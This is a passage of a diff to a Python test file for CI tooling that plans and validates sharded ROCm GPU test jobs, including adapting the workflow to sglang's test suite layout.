-    dispatch table to the commands the GPU jobs run."""
-    config, findings = load_config("dispatch:\n  nightly-stage-c-8-gpu-mi350:\n    workflow: rocm-on-demand.yml\n"
-                                   "    shards: 2\n")
-    assert findings == []
-    run = plan("nightly-stage-c-8-gpu-mi350", config.dispatch["nightly-stage-c-8-gpu-mi350"], _miles_options(), [])
-    inputs = run.inputs()
-    assert inputs == {"runs_on": '["linux-mi35x-gpu-8"]', "shards": "2", "image": "",
-                      "runner_flags": "--cadence nightly --match-all-labels --continue-on-error --enable-retry "
-                                      "--max-attempts 2"}
-    shapes = _python_step(_step(VALIDATE, "shapes"), {**GOOD, "SUITE": "nightly-stage-c-8-gpu-mi350",
-                                                      **{k.upper(): v for k, v in inputs.items()}})
-    assert shapes.returncode == 0, shapes.stdout
-    assert shapes.outputs["image"] == "rocm/sgl-dev:miles-rocm720-mi35x"
-    matrix = _plan("nightly-stage-c-8-gpu-mi350", shards=shapes.outputs["shards"], flags=shapes.outputs["runner_flags"])
-    assert [m["partition_id"] for m in matrix] == [0, 1]
-    assert all(m["command"].endswith(f"--auto-partition-id {m['partition_id']} --auto-partition-size 2") for m in matrix)
-
-
-SGLANG_RUN_SUITE = '''\
-from sglang.test.ci.ci_register import HWBackend
-
-PER_COMMIT_SUITES = {HWBackend.AMD: ["stage-b-test-1-gpu-small-amd"], HWBackend.CUDA: ["stage-b-test-1-gpu-small"]}
-NIGHTLY_SUITES = {HWBackend.AMD: ["nightly-amd-8-gpu-mi35x"]}
-OTHER_SUITES = {HWBackend.AMD: []}
-'''
-
-
-def test_sglangs_setup_is_the_same_workflow_with_its_paths(tmp_path):
-    """sglang's layout: test/run_suite.py, three inventory dicts, backend `amd`, test/registered."""
-    repo, sha = _repo(tmp_path, {"test/run_suite.py": SGLANG_RUN_SUITE, "test/registered/amd/test_x.py": ""})
-    step = _step(VALIDATE, "inventory")
-    env = {k: v for k, v in step["env"].items() if "${{" not in v}
-    env.update(SUITES_MODULE="test/run_suite.py", SUITES_VARIABLES="PER_COMMIT_SUITES NIGHTLY_SUITES OTHER_SUITES",
-               SUITES_BACKEND="amd", SUITE="nightly-amd-8-gpu-mi35x", HEAD_SHA=sha, PULL_NUMBER="7",
-               TEST_FILES="test/registered/amd/test_x.py", HOME=str(repo), GIT_CONFIG_NOSYSTEM="1")
-    assert _python_step(step, env, cwd=repo).returncode == 0
-    assert _python_step(step, {**env, "SUITE": "stage-b-test-1-gpu-small"}, cwd=repo).returncode == 1  # a CUDA suite
-    assert env["SUITES_BACKEND"] == "amd" and step["env"]["SUITES_BACKEND"] == "rocm"
-    # the shapes step's roots are a list the installer edits
-    shapes = _step(VALIDATE, "shapes")
-    sglang_shapes = {**shapes, "run": shapes["run"].replace(
-        'TEST_ROOTS = ["tests/e2e", "tests/fast", "tests/fast-gpu", "tests/ci"]', 'TEST_ROOTS = ["test/registered"]')}
-    assert sglang_shapes["run"] != shapes["run"]
-    good = {**GOOD, "TEST_FILES": "test/registered/amd/test_x.py", "RUNS_ON": '["linux-mi35x-gpu-8"]'}
-    assert _python_step(sglang_shapes, good).returncode == 0
-    assert _python_step(shapes, good).returncode == 1
-    plan_step = _step(VALIDATE, "plan")
-    env = {k: v for k, v in plan_step["env"].items() if "${{" not in v}
-    env.update(SUITE="nightly-amd-8-gpu-mi35x", TEST_FILES="", SHARDS="2", RUNNER_FLAGS="--nightly",
-               RUNNER_SCRIPT="test/run_suite.py", RUNNER_HW="amd")
-    [first, _] = json.loads(_python_step(plan_step, env).outputs["matrix"])["include"]
-    assert first["command"] == ("python3 test/run_suite.py --hw amd --suite nightly-amd-8-gpu-mi35x --nightly "
-                                "--auto-partition-id 0 --auto-partition-size 2")
+    assert [(r.file, r.status) for r in parse_job_log(done.stdout).records] == [
+        ("test/registered/amd/test_a.py", "PASS"), ("test/registered/test_b.py", "PASS")]
